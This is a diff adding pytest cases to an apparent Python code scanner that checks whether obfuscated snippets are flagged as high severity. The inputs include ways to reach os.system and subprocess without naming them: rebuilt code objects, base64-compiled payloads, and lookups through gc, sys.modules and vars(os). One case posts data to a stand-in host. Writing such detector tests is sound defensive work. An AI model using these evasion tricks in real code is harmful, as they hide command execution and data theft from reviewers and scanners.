@@ -121,3 +121,42 @@ def test_a_function_that_gives_the_name_of_a_program_decodes_nothing() -> None:
     assert worst(tool.format(asks)) < Severity.HIGH.rank
     shifted = "name = ''\n    for letter in 'cbti':\n        name += chr(ord(letter) - 1)"
     assert worst(tool.format(shifted)) >= Severity.HIGH.rank
+
+
+MADE = "compile(base64.b64decode('cHJpbnQoMSk=').decode(), 'k', 'exec')"
+
+
+@pytest.mark.parametrize(
+    ("line", "told"),
+    [
+        (f"type(lambda: 0)({MADE}, {{}})()", True),
+        (f"(lambda: 0).__class__({MADE}, {{}})()", True),
+        (f"def k(): pass\ntype(k)({MADE}, {{}})()", True),
+        (f"def k(): pass\nF = type(k)\nF({MADE}, {{}})()", True),
+        (f"def k(): pass\nk.__code__ = {MADE}\nk()", True),
+        (f"def k(): pass\nsetattr(k, '__code__', {MADE})\nk()", True),
+        ("def k(): pass\nk.__code__ = k.__code__.replace(co_code=bytes.fromhex('9700'))\nk()", True),
+        ("def k(): pass\nC = type(k.__code__)\nC(0, 0, bytes.fromhex('64'), (), ('os', 'system'))", True),
+        ("def k(): pass\ndef j(): pass\nk.__code__ = j.__code__", False),
+        ("class T:\n    def k(self, other):\n        return type(other)(self)\nT().k(T())", False),
+        ("def out(): pass\ndef f(out):\n    return type(out)(1, 2)\nf((1,))", False),
+        ("__import__('os.path').system('id')", True),
+        ("__import__('os.path').path.join('a', 'b')", False),
+        ("import importlib._bootstrap as b\nb._gcd_import('subprocess').run(['id'])", True),
+        ("from importlib.util import find_spec, module_from_spec\nm = module_from_spec(find_spec('subprocess'))\nm.run(['id'])", True),
+        ("import gc\n[o for o in gc.get_objects() if getattr(o, '__name__', '') == 'o' 's'][0].system('id')", True),
+        ("import gc\nfor o in gc.get_objects():\n    if torch.is_tensor(o):\n        o.detach_()", False),
+        ("for n, m in list(sys.modules.items()):\n    if n.startswith('subpro'):\n        m.Popen(['id'])", True),
+        ("for n, m in list(sys.modules.items()):\n    if n.startswith('model'):\n        importlib.reload(m)", False),
+        ("next(v for k, v in vars(os).items() if k.endswith('ystem'))('id')", True),
+        ("{v.__name__: v for v in vars(os).values() if callable(v)}['system']('id')", True),
+        ("print(sorted(vars(os).items()))", False),
+    ],
+)  # fmt: skip
+def test_functions_made_and_found_without_a_name(line: str, told: bool) -> None:
+    assert (worst(line) >= Severity.HIGH.rank) is told
+
+
+def test_what_the_top_package_of_an_import_leads_to() -> None:
+    line = "def f(x):\n    __import__('urllib.request').request.urlopen('https://a.example/c', data=x)\nf(b'1')"
+    assert worst(line) >= Severity.HIGH.rank
